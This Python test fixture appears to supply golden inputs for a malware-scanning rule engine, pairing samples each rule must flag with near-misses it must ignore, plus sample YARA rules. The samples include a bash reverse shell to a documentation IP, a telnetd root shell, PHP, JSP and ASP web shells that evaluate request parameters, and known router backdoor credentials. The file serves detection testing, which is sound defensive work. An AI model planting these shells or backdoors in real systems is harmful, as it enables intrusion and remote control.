"""Golden inputs of rules: what each shipped rule is about, what is only like it, and rules that a scan brings along.

Nothing here does any harm: texts stand in files that do not run.
"""

from collections.abc import Iterator

from tests.support.golden_case import Case

ELF = b"\x7fELF\1\1\1" + bytes(57)
SCRIPT = b"#!/bin/sh\n"
PHP = b"<?php\n"
HIDDEN = bytes(letter ^ 0x22 for letter in b"listening tun0\0")
QUERY = bytes(letter ^ 0x22 for letter in b"TSource Engine Query\0")
XZ = bytes.fromhex("f30f1efa554889f54c89ce5389fb81e7000000804883ec28488954241848894c2410")
RULES = """
private rule program { condition: uint32(0) == 0x464c457f }

rule acme_debug_port : firmware
{
    meta:
        title = "A debug port is open"
        description = "The program listens on a port that was meant for the factory."
        author = "Product security"
        severity = "high"
        category = "backdoor"
        cwe = "CWE-489"
        cve = "cve-2026-12345"
        reference = "https://acme.example/advisories/7"
    strings:
        $port = "debugd --port 2323"
        $hidden = "factory" xor(1-255)
    condition:
        program and any of them
}

rule acme_large { meta: score = 45 condition: filesize > 60 and not program }

rule acme_key { meta: type = "secret" strings: $key = /ACME-[0-9]{8}/ condition: $key }
"""

# By the name of a rule without "pellucid_": what it hits, and what it must not.
HITS = {
    "backdoor_dlink_user_agent": ELF + b"User-Agent\0xmlset_roodkcableoj28840ybtide\0",
    "backdoor_zyxel_account": b"root:x:0:0\nzyfwp:$1$abc$0123456789:0:0::/:/bin/sh\n",
    "backdoor_alphanetworks_telnet": SCRIPT + b"telnetd -l /usr/sbin/login -u Alphanetworks:$image_sign -i br0 &\n",
    "backdoor_xz_5_6": ELF + XZ,
    "backdoor_open_telnet": SCRIPT + b"# factory\n/usr/sbin/telnetd -p 2323 -l /bin/sh &\n",
    "backdoor_reverse_shell": SCRIPT + b"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n",
    "malware_mirai": ELF + HIDDEN + QUERY,
    "malware_gafgyt": ELF + b"GETLOCALIP\0SCANNER\0HOLD\0JUNK\0KILLATTK\0LOLNOGTFO\0",
    "malware_xor_ddos": ELF + b"BB2FA36AAA9541F0\0",
    "malware_diamorphine": ELF + b"diamorphine\0hacked_getdents64\0hacked_kill\0",
    "malware_miner": ELF + b"XMRig 6.0\0stratum+tcp://\0donate-level\0",
    "packed_upx": ELF + b"UPX!" + bytes(40) + b"$Info: This file is packed with the UPX executable packer $\n\0UPX!",
    "webshell_php_request": PHP + b"@eval(base64_decode($_POST['k']));\n",
    "webshell_php_known": PHP + b"$default_action = 'FilesMan';\n",
    "webshell_jsp_request": b'<%@ page %><% Runtime.getRuntime().exec(request.getParameter("c")); %>\n',
    "webshell_asp_request": b'<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>\n',
}
MISSES = {
    "backdoor_dlink_user_agent": b"xmlset_roodkcableoj\n",
    "backdoor_zyxel_account": b"user zyfwp may not log in; zyfwpx: another\n",
    "backdoor_alphanetworks_telnet": SCRIPT + b"telnetd -l /usr/sbin/login -i br0 &\n",
    "backdoor_xz_5_6": ELF + XZ[:-4],
    "backdoor_open_telnet": SCRIPT + b"telnetd -l /bin/login.sh &\n# telnetd -l /bin/shutdown\n",
    "backdoor_reverse_shell": SCRIPT + b"nc -l -p 80 < page.html\nbash -i\n",
    "malware_mirai": ELF + b"/bin/busybox\0TSource Engine Query\0ncorrect\0",
    "malware_gafgyt": ELF + b"SCANNER\0HOLD\0JUNK\0PING\0",
    "malware_xor_ddos": b"The key is BB2FA36AAA9541F0.\n",
    "malware_diamorphine": b"diamorphine hacked_kill\n",
    "malware_miner": ELF + b"stratum+tcp://\0donate-level\0",
    "packed_upx": ELF + b"$Info: This file is packed with the UPX executable packer $\n\0UPX!",
    "webshell_php_request": PHP + b"$name = base64_decode($_POST['k']); evaluate($_GET['x']);\n",
    "webshell_php_known": PHP + b"// c99shell is what this looks for, and r57shell\n",
    "webshell_jsp_request": b'<% exec(request.getParameter("c")); %>\n',
    "webshell_asp_request": b'<% x = Request.Item["k"] %>\n',
}


def cases() -> Iterator[Case]:
    name = "threats/known_threats"
    for rule, data in HITS.items():
        yield Case(f"{name}/{rule}", data, f"what {rule} is about")
    for rule, data in MISSES.items():
        yield Case(f"{name}/{rule}_not", data, f"what is only like {rule}")
    name = "threats/own_rules"
    program = ELF + b"debugd --port 2323\0" + bytes(letter ^ 0x5A for letter in b"factory")
    yield Case(f"{name}/program", program, "a program with a debug port", RULES)
    yield Case(f"{name}/many", b"ACME-12345678\n" * 40, "forty keys", RULES)
    yield Case(f"{name}/nothing", b"debugd --port 23\n", "a text that is like it", RULES)
    yield Case(f"{name}/no_rules", program, "the same program in a scan without rules")
